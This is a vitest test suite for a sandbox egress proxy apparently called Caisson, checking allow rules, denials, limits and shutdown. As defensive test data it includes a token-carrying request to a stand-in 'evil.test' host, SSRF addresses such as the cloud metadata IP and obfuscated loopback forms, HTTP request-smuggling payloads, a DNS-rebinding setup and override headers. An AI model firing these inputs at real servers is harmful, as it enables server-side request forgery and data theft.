import { once } from "node:events";
import type { Duplex } from "node:stream";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { createEgressRig, type EgressRig, readAll, readHead } from "./testing-egress.ts";

let rig: EgressRig;
let port: number;
const local = ["127.0.0.1"];

beforeEach(async () => {
  rig = await createEgressRig();
  rig.names.set("site.test", local).set("other.test", local);
});
afterEach(() => rig[Symbol.asyncDispose]());

/** Sends bytes to the proxy and reads everything that comes back. */
async function ask(text: string): Promise<string> {
  const socket = await rig.dial();
  socket.write(text);
  return await readAll(socket);
}
const get = (url: string, host = new URL(url).host, more = "") =>
  ask(`GET ${url} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${more}\r\n`);

describe("plain HTTP", () => {
  beforeEach(async () => {
    port = await rig.http((request, response) =>
      response.end(`${request.method} ${request.url} ${request.headers.host} ${request.headers["proxy-authorization"]}`),
    );
    rig.setPolicy({ mode: "allow", rules: [{ host: "site.test", ports: [port], private: true }] });
  });

  test("forwards to an allowed host, without the proxy's own headers", async () => {
    const answer = await get(`http://site.test:${port}/a?b=1`, undefined, "Proxy-Authorization: Basic eDp5\r\n");
    expect(answer).toContain(`GET /a?b=1 site.test:${port} undefined`);
    const closed = rig.eventsOf("network.closed")[0] ?? (await rig.event("network.closed"));
    expect(closed).toMatchObject({
      host: "site.test",
      port,
      via: "http",
      address: "127.0.0.1",
      rule: `site.test:${port}`,
      inspected: false,
      requests: 1,
    });
    expect(closed.sentBytes).toBeGreaterThan(40);
    expect(closed.receivedBytes).toBeGreaterThan(50);
  });

  test("N03: denies another host with a reason, and never looks up its name", async () => {
    const answer = await get(`http://secret-data.evil.test:${port}/x?token=hidden`);
    expect(answer).toMatch(/^HTTP\/1\.1 403 Denied by Caisson: secret-data\.evil\.test is not on this sandbox's list/);
    expect(answer).toContain("x-caisson-denied: host_not_allowed\r\n");
    expect(answer).toContain("x-caisson-rule: none (allow)\r\n");
    expect(answer).toContain(`Allowed here: site.test:${port}`);
    expect(answer).toContain(`caisson net allow secret-data.evil.test:${port}`);
    expect(answer).not.toContain("hidden");
    expect(rig.lookedUp).toEqual([]);
    expect(rig.eventsOf("network.denied")).toMatchObject([
      { host: "secret-data.evil.test", port, via: "http", reason: "host_not_allowed", method: "GET", path: "/x", count: 1 },
    ]);
  });

  test("N10: denies everything with an empty list or without a network", async () => {
    rig.setPolicy({ mode: "allow", rules: [] });
    expect(await get(`http://site.test:${port}/`)).toContain("x-caisson-denied: host_not_allowed");
    rig.setPolicy({ mode: "none" });
    expect(await get(`http://site.test:${port}/`)).toContain("x-caisson-denied: no_network");
    expect(rig.lookedUp).toEqual([]);
  });

  test("N01: denies private, metadata and odd addresses, by name and by number", async () => {
    rig.setPolicy({ mode: "open" });
    rig.names.set("inner.test", ["10.0.0.7"]).set("meta.test", ["169.254.169.254"]).set("mapped.test", ["::ffff:127.0.0.1"]);
    for (const host of [
      "inner.test",
      "meta.test",
      "mapped.test",
      "127.0.0.1",
      "2130706433",
      "0x7f.1",
      "[::1]",
      "[::ffff:127.0.0.1]",
      "169.254.169.254",
      "0.0.0.0",
    ]) {
      expect(await get(`http://${host}:${port}/`, `${host}:${port}`), host).toContain("x-caisson-denied: private_address");
    }
    rig.setPolicy({ mode: "allow", rules: [{ host: "*", ports: [port], private: true }] });
    for (const host of ["meta.test", "169.254.169.254", "0.0.0.0"])
      expect(await get(`http://${host}:${port}/`)).toContain("x-caisson-denied: private_address");
  });

  test("N02: resolves a name once for each connection", async () => {
    const answers = [["127.0.0.1"], ["169.254.169.254"]];
    await using rebinding = await createEgressRig({
      resolve: async () => answers.shift() ?? [],
      rules: [{ host: "site.test", ports: [port], private: true }],
    });
    const socket = await rebinding.dial();
    for (let index = 0; index < 3; index++) {
      socket.write(
        `GET http://site.test:${port}/${index} HTTP/1.1\r\nHost: site.test:${port}\r\n${index === 2 ? "Connection: close\r\n" : ""}\r\n`,
      );
      if (index < 2) expect(await readHead(socket)).toContain("200");
      if (index < 2) await once(socket.resume(), "data");
    }
    expect(await readAll(socket)).toContain("200");
    expect(answers).toHaveLength(1);
    // The next connection resolves the name again, and its address is checked again.
    const again = await rebinding.dial();
    again.write(`GET http://site.test:${port}/ HTTP/1.1\r\nHost: site.test:${port}\r\nConnection: close\r\n\r\n`);
    expect(await readAll(again)).toContain("x-caisson-denied: private_address");
  });

  test("uses only the allowed ones of several addresses", async () => {
    rig.names.set("site.test", ["169.254.169.254", "::ffff:127.0.0.1"]);
    expect(await get(`http://site.test:${port}/`)).toContain("200 OK");
  });

  test("applies the methods and paths of rules to each request of a connection", async () => {
    rig.setPolicy({ mode: "allow", rules: [{ host: "site.test", ports: [port], private: true, methods: ["GET"], paths: ["/api"] }] });
    const socket = await rig.dial();
    const send = (method: string, path: string) =>
      socket.write(`${method} http://site.test:${port}${path} HTTP/1.1\r\nHost: site.test:${port}\r\nContent-Length: 0\r\n\r\n`);
    send("GET", "/api/x");
    expect(await readHead(socket)).toContain("200 OK");
    await once(socket.resume(), "data");
    send("POST", "/api/x");
    expect(await readHead(socket)).toContain("method_not_allowed");
    send("GET", "/api/../admin");
    socket.end();
    expect(await readAll(socket)).toContain("path_not_allowed");
  });

  test("removes override headers if rules restrict methods or paths", async () => {
    const seen: string[] = [];
    const own = await rig.http((request, response) => {
      seen.push(
        Object.keys(request.headers)
          .filter((name) => name.startsWith("x-"))
          .join(),
      );
      response.end();
    });
    const overrides = "X-HTTP-Method-Override: DELETE\r\nX-Original-URL: /admin\r\nX-Other: 1\r\n";
    for (const methods of [["GET"], undefined]) {
      rig.setPolicy({ mode: "allow", rules: [{ host: "site.test", ports: [own], private: true, ...(methods ? { methods } : {}) }] });
      await get(`http://site.test:${own}/`, undefined, overrides);
    }
    expect(seen).toEqual(["x-other", "x-http-method-override,x-original-url,x-other"]);
  });

  test("reports an unknown name and an unreachable server", async () => {
    rig.setPolicy({ mode: "allow", rules: [{ host: "*", ports: [1, port], private: true }] });
    expect(await get(`http://nowhere.test:${port}/`)).toMatch(
      /^HTTP\/1\.1 502 Unknown host: there is no host named nowhere\.test\r\n[\s\S]*x-caisson-failed: unknown_host\r\n[\s\S]*\r\nUnknown host: GET nowhere/,
    );
    expect(rig.events).toMatchObject([{ type: "network.failed", data: { host: "nowhere.test", reason: "unknown_host", count: 1 } }]);
    expect(await get("http://site.test:1/")).toMatch(/^HTTP\/1\.1 502 [\s\S]*cannot be reached: the connection was refused/);
  });

  test("explains that https:// needs CONNECT", async () => {
    expect(await get("https://site.test/")).toMatch(/^HTTP\/1\.1 400 [\s\S]*CONNECT/);
  });

  test("describes itself when requested directly", async () => {
    expect(await get("/", "127.0.0.1")).toMatch(new RegExp(`^HTTP/1\\.1 200 [\\s\\S]*site\\.test:${port}`));
    expect(await get("/other", "127.0.0.1")).toMatch(/^HTTP\/1\.1 404/);
  });

  test("N09: rejects smuggled lines and a Host that differs from the target", async () => {
    for (const request of [
      `GET http://site.test:${port}/ HTTP/1.1\r\nHost: other.test\r\n\r\n`,
      `GET http://site.test:${port}/ HTTP/1.1\r\nHost: site.test:${port}\r\nHost: other.test\r\n\r\n`,
      `GET http://site.test:${port}/ HTTP/1.1\r\nHost: site.test:${port}\r\nX: a\nY: b\r\n\r\n`,
      `GET http://site.test:${port}@other.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n`,
      `POST http://site.test:${port}/ HTTP/1.1\r\nHost: site.test:${port}\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    ]) {
      expect(await ask(request)).toMatch(/^HTTP\/1\.1 400/);
    }
    expect(rig.lookedUp).toEqual([]);
    expect(rig.eventsOf("network.denied")[0]).toMatchObject({ reason: "bad_request", count: 1 });
  });

  test("sends requests for registry hosts to the mirror, unless a rule names them", async () => {
    const mirror = {
      serves: (host: string, at: number) => host === "packages.test" && at === 80,
      handle: ({ stream, origin }: { stream: Duplex; origin: URL }) =>
        void stream.once("data", (head: Buffer) =>
          stream.end(`HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n${origin} ${String(head).split("\r\n")[0]}`),
        ),
    };
    await using mirrored = await createEgressRig({ mirror });
    const send = async () => {
      const socket = await mirrored.dial();
      socket.write("GET http://packages.test/pool/a.deb HTTP/1.1\r\nHost: packages.test\r\nConnection: close\r\n\r\n");
      return await readAll(socket);
    };
    mirrored.setPolicy({ mode: "open", rules: [] });
    expect(await send()).toContain("http://packages.test/ GET /pool/a.deb HTTP/1.1");
    expect(mirrored.lookedUp).toEqual([]);
    mirrored.setPolicy({ mode: "allow", rules: [{ host: "packages.test", ports: [80] }] });
    expect(await send()).toContain("Unknown host");
    expect(mirrored.lookedUp).toEqual(["packages.test"]);
    mirrored.setPolicy({ mode: "none" });
    expect(await send()).toContain("no_network");
    expect(mirrored.lookedUp).toEqual(["packages.test"]);
  });

  test("S03: never repeats a request header in answers or events", async () => {
    const answer = await get(`http://evil.test:${port}/`, undefined, "Authorization: Bearer canary-value\r\nCookie: canary-value\r\n");
    expect(answer + JSON.stringify(rig.events)).not.toContain("canary-value");
  });
});

describe("limits and shutdown", () => {
  test("reports a repeated denial once at first and once per window", async () => {
    await using brief = await createEgressRig({ limits: { denialWindowMs: 200, denialsMax: 2 } });
    const send = async (host: string) => {
      const socket = await brief.dial();
      socket.write(`GET http://${host}/ HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
      await readAll(socket);
    };
    for (const host of ["a.test", "a.test", "a.test", "b.test", "c.test", "d.test"]) await send(host);
    expect(brief.eventsOf("network.denied").map(({ host, count }) => [host, count])).toEqual([
      ["a.test", 1],
      ["b.test", 1],
      ["*", 1],
    ]);
    await brief.event("network.denied");
    await brief.egress.close();
    expect(
      brief
        .eventsOf("network.denied")
        .slice(3)
        .map(({ host, count }) => [host, count]),
    ).toEqual([
      ["a.test", 2],
      ["*", 1],
    ]);
  });

  test("rejects a connection above the limit", async () => {
    await using small = await createEgressRig({ limits: { connectionsMax: 2 } });
    const [first, second] = [await small.dial(), await small.dial()];
    const third = await small.dial();
    expect(await readAll(third)).toMatch(/^HTTP\/1\.1 429 [\s\S]*too_many/);
    first.destroy();
    second.destroy();
  });

  test("drops a silent client after a while", async () => {
    await using hasty = await createEgressRig({ limits: { firstBytesMs: 50 } });
    expect(await readAll(await hasty.dial())).toBe("");
    expect(hasty.egress.stats().connections).toBe(0);
  });

  test("close ends all connections, and any later ones", async () => {
    port = await rig.http(() => {});
    rig.setPolicy({ mode: "allow", rules: [{ host: "site.test", ports: [port], private: true }] });
    const socket = await rig.dial();
    socket.write(`GET http://site.test:${port}/ HTTP/1.1\r\nHost: site.test:${port}\r\n\r\n`);
    while (rig.lookedUp.length === 0) await new Promise(setImmediate);
    const [answer] = await Promise.all([readAll(socket), rig.egress.close()]);
    expect(answer).toBe("");
    expect(rig.egress.stats().connections).toBe(0);
    expect(await readAll(await rig.dial())).toBe("");
  });
});
